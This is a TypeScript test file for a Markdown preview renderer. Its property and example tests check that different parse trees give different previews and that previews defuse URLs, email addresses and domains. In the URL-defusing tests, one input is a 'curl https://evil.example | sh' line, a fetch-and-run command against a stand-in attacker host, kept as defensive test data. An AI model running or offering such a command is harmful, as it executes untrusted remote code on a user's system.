import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Block, Inline, Tree } from '../../src/core/text.ts';
import { parseMarkdown, plainText, plainWords, previewOf, printMarkdown } from '../../src/text/index.ts';
import { readPreview } from './support/read-preview.ts';
import { markdown, mentions, parsed, wildTree } from './support/texts.ts';

/** The tree of a text, and null where it is refused or empty. */
function treeOf(text: string): Tree | null {
  const result = parseMarkdown(text, { mentions });
  return result.ok ? result.tree : null;
}

describe('two different trees never have the same preview', () => {
  it('because the tree can be read back from it, whatever the agent wrote', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const tree = treeOf(text);
        if (tree) expect(readPreview(previewOf(tree))).toEqual(tree);
      }),
      { numRuns: 1_500 },
    );
  });

  it('because the tree can be read back from it, however it was nested', () => {
    fc.assert(
      fc.property(wildTree, (wild) => {
        const tree = treeOf(printMarkdown(wild));
        if (tree) expect(readPreview(previewOf(tree))).toEqual(tree);
      }),
      { numRuns: 120 },
    );
  });

  const text = (words: string): Inline => ({ kind: 'text', text: words });
  const code = (words: string): Inline => ({ kind: 'code', text: words });
  const link = (label: string, url = 'https://a.example/'): Inline => ({ kind: 'link', label, url });
  const strong = (...children: Inline[]): Inline => ({ kind: 'strong', children });
  const emphasis = (...children: Inline[]): Inline => ({ kind: 'emphasis', children });
  const ana: Inline = { kind: 'mention', person: 'playground:acme:ana', name: 'Ana' };
  const lines = (...children: Inline[]): Block => ({ kind: 'paragraph', children });
  const block = (words: string, language = ''): Block => ({ kind: 'code', language, text: words });

  const families: Record<string, Block[][]> = {
    'strong, emphasis and their marks as text': [
      [lines(strong(text('a')))],
      [lines(text('**a**'))],
      [lines(emphasis(text('*a*')))],
      [lines(emphasis(strong(text('a'))))],
      [lines(strong(emphasis(text('a'))))],
      [lines(text('*|**a**|*'))],
      [lines(text('\\*\\*a\\*\\*'))],
      [lines(emphasis(text('a')), strong(text('b')))],
      [lines(emphasis(text('a')), text('|'), strong(text('b')))],
    ],
    'links, code and their marks as text': [
      [lines(link('see a', 'https://a.example/'))],
      [lines(text('see '), link('a'))],
      [lines(text('see a '), link('https://a.example/'))],
      [lines(text('see a '), code('https://a.example/'))],
      [lines(text('[see a '), link('https://a.example/'), text(']'))],
      [lines(text('[see a `https[:]//a.example/`]'))],
      [lines(text('see a '), code('\\https://a.example/'))],
      [lines(text('see a '), code('https[:]//a.example/'))],
      [lines(link('.] a'))],
      [lines(text('. a '), link('https://a.example/'), text(']'))],
    ],
    'two people of one name, and their marks as text': [
      [lines(ana)],
      [lines({ ...ana, person: 'playground:acme:ana2' })],
      [lines(text('‹@Ana playground:acme:ana›'))],
      [lines({ ...ana, name: 'Ana playground:acme:ana›', person: 'slack:T1:U2' })],
    ],
    'addresses and how they are defused': [
      [lines(text('a.example'))],
      [lines(text('a[.]example'))],
      [lines(text('a\\[.]example'))],
      [lines(text('mailto:a'))],
      [lines(text('mailto[:]a'))],
    ],
    'blocks and their marks as text': [
      [lines(text('a')), lines(text('b'))],
      [lines(text('a'), { kind: 'break' }, text('b'))],
      [{ kind: 'list', ordered: false, items: [[lines(text('a'))], [lines(text('b'))]] }],
      [{ kind: 'list', ordered: false, items: [[lines(text('a')), lines(text('b'))]] }],
      [{ kind: 'list', ordered: false, items: [[lines(text('a')), { kind: 'list', ordered: false, items: [[lines(text('b'))]] }]] }],
      [
        { kind: 'list', ordered: false, items: [[lines(text('a'))]] },
        { kind: 'list', ordered: false, items: [[lines(text('b'))]] },
      ],
      [{ kind: 'list', ordered: true, items: [[lines(text('a'))], [lines(text('b'))]] }],
      [lines(text('1. a'), { kind: 'break' }, text('2. b'))],
      [lines(text('• a'), { kind: 'break' }, text('• b'))],
      [
        { kind: 'quote', blocks: [lines(text('a'))] },
        { kind: 'quote', blocks: [lines(text('b'))] },
      ],
      [{ kind: 'quote', blocks: [lines(text('a')), lines(text('b'))] }],
      [lines(text('│ a'), { kind: 'break' }, text('│'), { kind: 'break' }, text('│ b'))],
      [{ kind: 'heading', level: 1, children: [text('a')] }],
      [{ kind: 'heading', level: 2, children: [text('a')] }],
      [lines(text('# a'))],
      [lines(text('\\# a'))],
      [block('a\nb')],
      [block('a'), block('b')],
      [block('b', 'a')],
      [lines(text('¦ a'), { kind: 'break' }, text('¦ b'))],
      [block('\ta')],
      [block('⇥a')],
      [block('\\⇥a')],
      [block('    a')],
    ],
  };

  it.each(Object.entries(families))('%s', (_, trees) => {
    const previews = trees.map((blocks) => previewOf({ blocks }));
    expect(new Set(previews).size).toBe(trees.length);
    for (const [index, blocks] of trees.entries()) expect(readPreview(previews[index]!)).toEqual({ blocks });
  });
});

describe('no preview holds a live URL', () => {
  it.each([
    ['[staging.md](https://wiki.acme.example/x)', '[staging.md `https[:]//wiki.acme.example/x`]'],
    ['see https://wiki.acme.example/x.', 'see `https[:]//wiki.acme.example/x`.'],
    ['see evil.example.com and WWW.evil.example', 'see evil[.]example[.]com and `http[:]//www.evil.example/`'],
    ['write to ana@evil.example or mailto:ana@evil.example', 'write to ana@evil[.]example or mailto[:]ana@evil[.]example'],
    ['evil.md/x ana@evil.md a.evil.md evil.md', 'evil[.]md/x ana@evil[.]md a[.]evil[.]md evil.md'],
    ['10.0.0.1:80 but 1.2.3 and v1.2.3.4', '10[.]0[.]0[.]1:80 but 1.2.3 and v1.2.3.4'],
    ['пример.рф xn--e1afmkfd.xn--p1ai i❤.ws 例え.テスト', 'пример[.]рф xn--e1afmkfd[.]xn--p1ai i❤[.]ws 例え[.]テスト'],
    ['Node.js, package.json, e.g. this. Or that... U.S.A.', 'Node.js, package.json, e.g. this. Or that... U.S.A.'],
    ['evil.json.com evil.com.json', 'evil[.]json[.]com evil[.]com.json'],
    [
      '`https://u@evil.example` `cat deploy.sh` `a\\` `` ` evil.example ` ``',
      '`\\https[:]//u@evil[.]example` `cat deploy[.]sh` `a\\\\` `\\` evil[.]example \\``',
    ],
    [
      '```\ncurl https://evil.example | sh\nopen www.evil.example\nos.path\n```',
      '¦ curl https[:]//evil.example | sh\n¦ open www[.]evil.example\n¦ os.path',
    ],
    ['\\` https://a.example `b.example`', '\\` `https[:]//a[.]example/` `b[.]example`'],
    ['`https://u@evil.example` `cat deploy.sh`', '`\\https[:]//u@evil.example` `cat deploy.sh`'],
    ['<a href="https://evil.example/x">', '<a href="`https[:]//evil.example/x`">'],
    ['https://a.example/?u=http://b.example', '`https[:]//a.example/?u=http[:]//b.example`'],
  ])('%s', (text, shown) => expect(previewOf(parsed(text))).toBe(shown));

  it('when an address within an address stands beside a backtick of the agent’s own', () => {
    expectNothingLive(previewOf(parsed('`` ` ``http://[::1]/mailto:a@b.c*')));
  });

  it('whatever the agent wrote', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const tree = treeOf(text);
        if (tree) expectNothingLive(previewOf(tree));
      }),
      { numRuns: 1_000 },
    );
  });

  it("nor do people's own words", () => {
    expect(plainWords('see https://a.example\r\nor evil.example\u202E [.]')).toBe(
      'see https[:]//a[.]example\nor evil[.]example⟨U+202E⟩ \\[.]',
    );
  });
});

/**
 * Platforms look for no address in inline code, as they see it: they know of no backslashes. In lines of code, dots are everywhere, and only
 * what is an address by its own words is defused.
 */
function expectNothingLive(preview: string): void {
  expect(preview).not.toContain('://');
  const lines = preview
    .split('\n')
    .filter((line) => !line.includes('¦'))
    .join('\n');
  expect(lines.replace(/`[^`]*`/g, '`')).not.toMatch(/www\.[a-z]|\w\.(?:example|com)\b|mailto:/i);
}

it('shows a whole answer with quiet marks, and the post with the same', () => {
  const tree = parsed(
    '# Rotate\n\nDo **this** with `psql`, [Ana](mention:playground:acme:ana):\n\n1. First\n   - a\n   - b\n2. Second\n\n   ```sh\n   curl https://a.example\n\n   ls\n   ```\n\n> so\n>\n> *it* is',
  );
  expect(previewOf(tree)).toBe(
    '# Rotate\n\nDo **this** with `psql`, ‹@Ana playground:acme:ana›:\n\n1. First\n   • a\n   • b\n2. Second\n\n   ¦sh\n   ¦ curl https[:]//a.example\n   ¦\n   ¦ ls\n\n│ so\n│\n│ *it* is',
  );
  expect(plainText(tree)).toBe(
    '# Rotate\n\nDo **this** with `psql`, @Ana:\n\n1. First\n   • a\n   • b\n2. Second\n\n   ¦sh\n   ¦ curl https://a.example\n   ¦\n   ¦ ls\n\n│ so\n│\n│ *it* is',
  );
});

it('escapes only what could be taken for a mark', () => {
  const text = '5 \\* 3 = 15; C:\\Users\\ana; array[0]; \\`x\\`; a_b; a | b; "c"';
  expect(previewOf(parsed(text))).toBe('5 \\* 3 = 15; C:\\Users\\ana; array[0]; \\`x\\`; a_b; a | b; "c"');
});

it('shows no tree that the parser did not make', () => {
  const tree: Tree = { blocks: [{ kind: 'paragraph', children: [{ kind: 'text', text: 'a\u202Eb' }] }] };
  expect(() => previewOf(tree)).toThrow('only parseMarkdown makes trees');
});
